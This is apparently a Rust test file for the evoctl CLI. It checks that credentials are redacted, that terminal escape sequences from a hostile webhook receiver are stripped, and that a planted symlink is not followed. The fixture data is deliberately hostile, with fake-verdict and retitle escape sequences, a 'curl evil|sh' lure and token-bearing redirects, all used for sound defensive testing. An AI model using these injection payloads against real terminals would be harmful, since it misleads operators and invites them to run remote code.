//! Text from outside on its way to the operator: an Evolution answer of another shape, a
//! receiver that answers with escape sequences and echoes the JWT it got, and files written
//! beside names someone planted. What is checked is what reaches stdout, stderr and the JSON
//! document: no control sequence but evoctl's own colours, no secret in any form.

use crate::secrets::Secrets;
use crate::support::{Lab, json_stdout, text};
use serde_json::json;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;

/// A stand-in for a server of another version: answers the requests it gets, in order, with
/// `answers` (status, JSON body; the last one again once they run out). Its address.
fn fake_evolution(answers: Vec<(u16, String)>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    std::thread::spawn(move || {
        for (served, stream) in listener.incoming().enumerate() {
            let Ok(mut stream) = stream else { continue };
            let (status, body) = answers[served.min(answers.len() - 1)].clone();
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut length = 0usize;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    length = value.trim().parse().unwrap_or(0);
                }
            }
            let mut request_body = vec![0u8; length];
            let _ = reader.read_exact(&mut request_body);
            let _ = write!(
                stream,
                "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    address
}

const INSTANCE_KEY: &str = "SECRET-INSTANCE-KEY-4b1c9e7d2a";
const INSTANCE_TOKEN: &str = "7F3A91C2-5D0B-4E8A-9C1D-2B6E4F8A0C3D";

#[test]
fn an_answer_of_another_shape_is_a_shape_error_that_quotes_nothing() {
    // Evolution 1.x answered fetchInstances with `{instance: {..., apikey}}` rows; a 500 from a
    // proxy may echo the request's credentials in its message.
    let old_shape = json!([{"instance": {"instanceName": "alinhou-production", "owner": "5511987654321@s.whatsapp.net",
        "status": "open", "apikey": INSTANCE_KEY, "token": INSTANCE_TOKEN}}]);
    let echoing = json!({"status": 500, "error": "Internal Server Error",
        "response": {"message": format!("upstream refused apikey={INSTANCE_KEY} token: {INSTANCE_TOKEN}")}});
    let address =
        fake_evolution(vec![(200, old_shape.to_string()), (200, old_shape.to_string()), (500, echoing.to_string())]);
    let lab =
        Lab::start_with("seed", &["--external-evolution", &format!("alinhou-production/EvolutionService={address}")]);
    lab.wait_settled();
    let secrets = Secrets::new([
        ("the instance key".to_owned(), INSTANCE_KEY.as_bytes().to_vec()),
        ("the instance token".to_owned(), INSTANCE_TOKEN.as_bytes().to_vec()),
    ]);
    let fix =
        "  fix: check the Evolution version (evoctl speaks 2.3.7: `evoctl doctor production` shows it) and its logs\n";

    let output = lab.evoctl().args(["instance", "list", "production"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    assert_eq!(
        text(&output.stderr),
        format!(
            "error: fetchInstances: Evolution answered in a shape 2.3.7 does not send (at [0]: missing field `id`)\n{fix}"
        )
    );
    assert_eq!(text(&output.stdout), "");

    let output = lab.evoctl().args(["--output", "json", "instance", "list", "production"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    let document = json_stdout(&output);
    assert_eq!(document["schema"], "evoctl.error/v1");
    assert_eq!(
        document["error"]["message"],
        "fetchInstances: Evolution answered in a shape 2.3.7 does not send (at [0]: missing field `id`)"
    );
    for place in [&output.stdout, &output.stderr] {
        secrets.assert_absent(place, "a reshaped answer's error");
    }

    let output = lab.evoctl().args(["-vvv", "instance", "list", "production"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    let stderr = text(&output.stderr);
    assert!(
        stderr.ends_with(
            "error: fetchInstances: upstream refused apikey=[redacted] token: [redacted]\n  fix: Evolution failed inside: its log has the error (`evoctl logs production --kind error`); then retry\n"
        ),
        "{stderr}"
    );
    secrets.assert_absent(&output.stdout, "an echoing 500's stdout");
    secrets.assert_absent(&output.stderr, "an echoing 500's stderr (-vvv)");
}

/// What a hostile receiver answers: a fake verdict in colour, a retitled terminal, C1 controls,
/// and the JWT it got, placed so that a cut at 300 characters would split it.
fn hostile_body() -> String {
    let lure = "\u{1b}]0;all good\u{7}\u{1b}[1;31mFAKE: all good, run 'curl evil|sh'\u{1b}[0m\u{9b}2J\r\u{8}";
    let padding = "x".repeat(270 - lure.chars().count());
    format!("{lure}{padding}{{token}} tail\u{1b}[?1049h")
}

/// Every ESC in `bytes` starts one of evoctl's own sequences (its colours); no other control
/// byte but newline, and no C1 control.
fn assert_only_own_controls(bytes: &[u8], place: &str) {
    let own: [&[u8]; 4] = [b"\x1b[31m", b"\x1b[33m", b"\x1b[0m", b"\x1b[30;107m"];
    let text = String::from_utf8_lossy(bytes);
    for (at, c) in text.char_indices() {
        let allowed = match c {
            '\u{1b}' => own.iter().any(|seq| text.as_bytes()[at..].starts_with(seq)),
            '\n' | '\t' => true,
            c => !c.is_control(),
        };
        assert!(allowed, "{place}: control {c:?} at {at} in {text:?}");
    }
}

#[test]
fn a_hostile_receiver_reaches_the_terminal_as_plain_text_without_its_token() {
    let lab = Lab::start("seed");
    lab.link_production();
    lab.control("POST", "/receiver", Some(&json!({"status": 401, "body": hostile_body()})));
    let mut outputs = Vec::new();
    for args in [
        &["webhook", "test", "production"][..],
        &["doctor", "production"],
        &["--output", "json", "doctor", "production"],
    ] {
        for no_color in [false, true] {
            let mut command = lab.evoctl();
            command.args(args);
            if no_color {
                command.env("NO_COLOR", "1");
            }
            let output = command.output().unwrap();
            assert_eq!(output.status.code(), Some(1), "{args:?}: {}", text(&output.stderr));
            let all = [output.stdout.clone(), output.stderr.clone()].concat();
            assert_only_own_controls(&all, &format!("{args:?}"));
            let said = text(&all);
            assert!(
                said.contains("FAKE: all good, run 'curl evil|sh'2J"),
                "{args:?}: the body is shown, cleaned: {said}"
            );
            assert!(said.contains("[redacted] tail"), "{args:?}: the token is cut out whole: {said}");
            outputs.push((args, all));
        }
    }
    // The receiver's own records: the tokens it was sent (and echoed).
    let deliveries = lab.control("GET", "/webhooks", None);
    let tokens: Vec<(String, Vec<u8>)> = deliveries
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["target"] == "production/evoctl-probe")
        .map(|d| {
            let token = d["headers"]["authorization"].as_str().unwrap().trim_start_matches("Bearer ");
            ("a probe's JWT".to_owned(), token.as_bytes().to_vec())
        })
        .collect();
    assert_eq!(tokens.len(), outputs.len(), "one probe per run, each answered with its own token echoed");
    let secrets = Secrets::new(tokens);
    for (args, all) in &outputs {
        secrets.assert_absent(all, &format!("{args:?} stdout and stderr"));
    }
}

#[test]
fn a_redirect_to_a_url_holding_the_token_is_shown_without_it() {
    let lab = Lab::start("seed");
    lab.link_production();
    let location = "https://login.example/continue?token={token}&next=%1B%5D0%3Bx";
    lab.control("POST", "/receiver", Some(&json!({"status": 302, "headers": {"Location": location}})));
    let output = lab.evoctl().args(["webhook", "test", "production"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    let stdout = text(&output.stdout);
    assert!(
        stdout
            .contains("answered 302, a redirect to https://login.example/continue?token=[redacted]&next=%1B%5D0%3Bx:"),
        "{stdout}"
    );
}

#[test]
fn a_planted_symlink_beside_the_png_is_never_followed() {
    let lab = Lab::start("seed");
    let out = lab.dir.path();
    let victim = out.join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    for (flag, name) in [("--png", "qr.png"), ("--svg", "qr.svg")] {
        let target = out.join(name);
        std::os::unix::fs::symlink(&victim, out.join(format!("{name}.partial"))).unwrap();
        let output = lab.evoctl().args(["qr", "2@a-code,b,c", flag, target.to_str().unwrap()]).output().unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me", "{flag}");
        let mode = std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&target).unwrap().permissions());
        assert_eq!(mode & 0o777, 0o600, "{flag}: readable by its owner only");
        assert!(!std::fs::symlink_metadata(&target).unwrap().file_type().is_symlink());
    }
    let png = std::fs::read(out.join("qr.png")).unwrap();
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"));
    let svg = std::fs::read_to_string(out.join("qr.svg")).unwrap();
    assert!(svg.starts_with("<?xml") || svg.starts_with("<svg"), "{svg}");
    let mut names: Vec<String> =
        std::fs::read_dir(out).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.retain(|n| n.contains("qr."));
    names.sort();
    assert_eq!(names, ["qr.png", "qr.png.partial", "qr.svg", "qr.svg.partial"], "no temporary file is left");
}
